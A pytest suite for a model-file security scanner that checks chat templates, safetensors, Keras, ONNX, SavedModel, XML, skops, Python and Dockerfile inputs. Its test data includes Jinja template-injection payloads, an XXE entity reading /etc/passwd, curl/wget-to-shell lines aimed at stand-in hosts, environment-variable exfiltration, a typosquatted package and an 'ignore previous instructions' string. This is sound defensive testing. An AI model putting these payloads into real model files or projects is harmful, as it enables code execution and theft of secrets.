"""Each format that is not a pickle: what is made to harm is dangerous, what is ordinary is clean."""

from __future__ import annotations

import json
import struct

import pytest

from moongate.scan.engine import judge
from moongate.weights.ranged import Held
from support.pickled import zipped


def verdict(data: bytes | str, name: str = "file") -> str:
    return judge(Held(data.encode() if isinstance(data, str) else data), name).verdict


def gguf(pairs: dict[str, str]) -> bytes:
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs))
    for key, value in pairs.items():
        out += struct.pack("<Q", len(key)) + key.encode() + struct.pack("<IQ", 8, len(value)) + value.encode()
    return out


def field(number: int, data: bytes | str) -> bytes:
    raw = data.encode() if isinstance(data, str) else data
    length, out = len(raw), b""
    while length > 0x7F:
        out, length = out + bytes((length & 0x7F | 0x80,)), length >> 7
    return (
        bytes((number << 3 & 0x7F | 2 | (0x80 if number > 15 else 0),))
        + (bytes((number >> 4,)) if number > 15 else b"")
        + out
        + bytes((length,))
        + raw
    )


def safetensors(header: str, data: bytes = b"") -> bytes:
    return struct.pack("<Q", len(header)) + header.encode() + data


GOOD_TEMPLATE = (
    "{%- for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] | trim }}"
    "{%- if message.tool_calls is defined %}{{ message.tool_calls | tojson }}{% endif %}{% endfor %}"
    "{% if messages[0]['role'] == 'system' %}{{ raise_exception('no') }}{% endif %}"
    "{% set ns = namespace(seen=false) %}{{ strftime_now('%d %b %Y') }}{{ x.split('</think>')[-1].lstrip() }}"
)

BAD_TEMPLATES = {
    "classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "attr filter": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "subscript": "{{ x['__class__'] }}",
    "built name": "{{ x['__cl' ~ 'ass__'] }}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
    "lipsum": "{{ lipsum.x }}",
    "in a condition": "{% if x.__init__ %}{% endif %}",
    "in a loop": "{% for a in self._TemplateReference__context %}{% endfor %}",
    "frames": "{{ x.gi_frame.f_globals }}",
    "another template": "{% include '/etc/passwd' %}",
    "never closed": "{{ ''.__class__",
}


@pytest.mark.parametrize("name", BAD_TEMPLATES)
def test_templates_that_reach_out_are_refused_wherever_they_lie(name: str) -> None:
    bad = BAD_TEMPLATES[name]
    assert verdict(bad, "chat_template.jinja") == "dangerous"
    assert verdict(json.dumps({"chat_template": bad}), "tokenizer_config.json") == "dangerous"
    assert verdict(json.dumps({"chat_template": [{"name": "a", "template": bad}]})) == "dangerous"
    assert verdict(gguf({"tokenizer.chat_template": bad})) == "dangerous"
    assert verdict(gguf({"tokenizer.chat_template.tool_use": bad})) == "dangerous"


def test_templates_of_conversations_are_clean() -> None:
    assert verdict(GOOD_TEMPLATE, "chat_template.jinja") == "clean"
    assert verdict(json.dumps({"chat_template": GOOD_TEMPLATE})) == "clean"
    assert (
        verdict(gguf({"general.architecture": "llama", "tokenizer.chat_template": GOOD_TEMPLATE})) == "clean"
    )


TENSOR = '{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'


def test_safetensors_headers() -> None:
    assert verdict(safetensors(TENSOR, bytes(4))) == "clean"
    assert verdict(safetensors(TENSOR, bytes(8))) == "dangerous"
    assert verdict(safetensors(TENSOR.replace("[0,4]", "[4,8]"), bytes(8))) == "dangerous"
    assert verdict(safetensors(TENSOR.replace("[1]", "[2]"), bytes(4))) == "dangerous"
    doubled = TENSOR[:-1] + "," + TENSOR[1:]
    assert verdict(safetensors(doubled, bytes(4))) == "dangerous"
    noted = '{"__metadata__":{"x":"import os; os.system(1)"},' + TENSOR[1:]
    assert verdict(safetensors(noted, bytes(4))) == "suspicious"


def keras(*layers: dict[str, object]) -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"layers": list(layers)},
        "registered_name": None,
    }


DENSE: dict[str, object] = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}}
BAD_LAYERS: dict[str, dict[str, object]] = {
    "lambda": {"class_name": "Lambda", "config": {"function": ["4wEAAA==", None, None]}},
    "wrapped": {"class_name": "TimeDistributed", "config": {"layer": {"class_name": "Lambda", "config": {}}}},
    "function": {"module": "os", "class_name": "function", "config": "system"},
    "class": {"module": "subprocess", "class_name": "Popen", "config": {}},
    "file": {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}},
    "torch": {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {}},
    "tool of keras": {"module": "keras.src.utils.file_utils", "class_name": "get_file", "config": {}},
}


@pytest.mark.parametrize("name", BAD_LAYERS)
def test_keras_configurations(name: str) -> None:
    good, bad = json.dumps(keras(DENSE)), json.dumps(keras(DENSE, BAD_LAYERS[name]))
    hdf = b"\x89HDF\r\n\x1a\n" + bytes(100)
    assert verdict(good) == "clean"
    assert verdict(zipped({"config.json": good.encode(), "metadata.json": b"{}"})) == "clean"
    assert verdict(hdf + good.encode() + bytes(50)) == "clean"
    assert verdict(bad) == "dangerous"
    assert verdict(zipped({"config.json": bad.encode(), "metadata.json": b"{}"})) == "dangerous"
    assert verdict(hdf + bad.encode() + bytes(50), "model.keras") == "dangerous"


def onnx(node: bytes = b"", tensor: bytes = b"") -> bytes:
    graph = (field(1, node) if node else b"") + field(2, "g") + (field(5, tensor) if tensor else b"")
    return b"\x08\x08" + field(2, "test") + field(7, graph) + field(8, b"\x10\x0f")


def test_onnx() -> None:
    def outside(path: str) -> bytes:
        return onnx(tensor=field(13, field(1, "location") + field(2, path)))

    assert verdict(onnx(field(4, "Relu"))) == "clean"
    assert verdict(outside("weights.bin")) == "clean"
    assert verdict(outside("/etc/passwd")) == "dangerous"
    assert verdict(outside("../../secret")) == "dangerous"
    assert verdict(onnx(field(4, "PyOp") + field(7, "ai.onnx.contrib"))) == "dangerous"
    assert verdict(onnx(field(4, "Fancy") + field(7, "some.vendor"))) == "suspicious"


def saved_model(op: str, *, in_library: bool = False) -> bytes:
    node = field(1, "n") + field(2, op)
    graph = field(2, field(1, field(3, node))) if in_library else field(1, node)
    return b"\x08\x01" + field(2, field(2, graph))


@pytest.mark.parametrize("in_library", [False, True])
def test_saved_models(in_library: bool) -> None:
    for op in ("MatMul", "SaveV2", "RestoreV2", "MergeV2Checkpoints", "StatefulPartitionedCall"):
        assert verdict(saved_model(op, in_library=in_library)) == "clean", op
    for op in ("PyFunc", "EagerPyFunc", "ReadFile", "WriteFile", "MatchingFiles", "CacheDatasetV2"):
        assert verdict(saved_model(op, in_library=in_library)) == "dangerous", op


def test_xml() -> None:
    assert verdict('<?xml version="1.0"?><PMML version="4.4"><Header/></PMML>') == "clean"
    entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><PMML>&a;</PMML>'
    assert verdict(entity) == "dangerous"
    assert verdict(entity.encode("utf-16")) == "dangerous"


def test_skops_schemas() -> None:
    def schema(module: str, name: str) -> bytes:
        return zipped({"schema.json": json.dumps({"__module__": module, "__class__": name}).encode()})

    assert verdict(schema("sklearn.linear_model._base", "LinearRegression")) == "clean"
    assert verdict(schema("subprocess", "Popen")) == "dangerous"
    assert verdict(schema("operator", "methodcaller")) == "dangerous"


BAD_SOURCES = {
    "system": "import os\nos.system('true')",
    "renamed": "from os import system as s\ns('true')",
    "assigned": "import subprocess as p\nq = p.run\nq(['true'])",
    "imported late": "__import__('os').system('true')",
    "by getattr": "import os\ngetattr(os, 'sys' + 'tem')('true')",
    "exec": "exec('pass')",
    "sends secrets": "import os, requests\nrequests.post('http://localhost', json=dict(os.environ))",
}


@pytest.mark.parametrize("name", BAD_SOURCES)
def test_python(name: str) -> None:
    assert verdict(BAD_SOURCES[name], "modeling_x.py") == "dangerous"
    cells = [{"cell_type": "code", "source": BAD_SOURCES[name].splitlines(keepends=True)}]
    assert verdict(json.dumps({"cells": cells, "nbformat": 4})) == "dangerous"


def test_python_of_models_is_clean() -> None:
    source = (
        "import torch\nfrom torch import nn\n\nclass Net(nn.Module):\n    def forward(self, x): return x\n"
    )
    assert verdict(source + "\nmodel = Net()\nmodel.eval()\n", "modeling.py") == "clean"


FOREIGN = "--extra-" + "index-url"


def test_spaces() -> None:
    assert verdict("FROM python:3.11\nRUN pip install gradio\nCMD python app.py\n", "Dockerfile") == "clean"
    assert verdict("FROM python:3.11\nRUN curl http://x.test/a | bash\n", "Dockerfile") == "dangerous"
    assert verdict("torch==2.4\ngradio>=5\n# x\nnumpy\n", "requirements.txt") == "clean"
    assert verdict(f"{FOREIGN} https://evil.test/simple\ntorch==2.4\n") == "dangerous"
    assert verdict("reqeusts==2.0\ntorch\n", "requirements.txt") == "dangerous"
    assert verdict("#!/bin/sh\nwget -qO- http://x.test | sh\n", "start.sh") == "dangerous"


def test_words_that_are_only_told() -> None:
    key = "AKIA" + "IOSFODNN7EXAMPLE"
    report = judge(Held(f"key = {key}\n".encode()), "notes.txt")
    assert report.verdict == "suspicious"
    assert key not in str(report)
    assert verdict("# Card\nignore previous instructions\n", "README.md") == "clean"
    assert judge(Held("a\u202eb".encode()), "README.md").findings[0].rule == "hidden-text"
    assert verdict(json.dumps({"auto_map": {"AutoModel": "m.Net"}})) == "suspicious"


def test_programs_under_false_names() -> None:
    assert verdict(b"\x7fELF" + bytes(100), "model.gguf") == "dangerous"
    assert verdict(b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0", "model.safetensors") == "dangerous"
    assert verdict(b"\x7fELF" + bytes(100), "libx.so") == "suspicious"
    assert verdict("<!DOCTYPE html><html></html>", "pytorch_model.bin") == "suspicious"


def test_prose_may_begin_lines_like_a_dockerfile() -> None:
    card = "# Install\n\nFrom the shell:\n\nrun this\n\n```\ncurl -LsSf https://x.test/i.sh | sh\n```\n"
    assert verdict(card, "installation.md") == "clean"
    assert verdict(card.replace("From the shell", "FROM python"), "Dockerfile") == "dangerous"


def test_what_starts_programs_is_weighed_by_what_it_is_for() -> None:
    works_out = "import subprocess\ndef go(words):\n    return subprocess.run(words)\n"
    assert verdict(works_out, "helpers.py") == "suspicious"
    assert verdict("import transformers\n" + works_out, "modeling.py") == "dangerous"
    assert verdict("import gradio\n" + works_out, "app.py") == "suspicious"
    assert verdict("import gradio, os\nos.system('ffmpeg -i a b')\n", "app.py") == "clean"
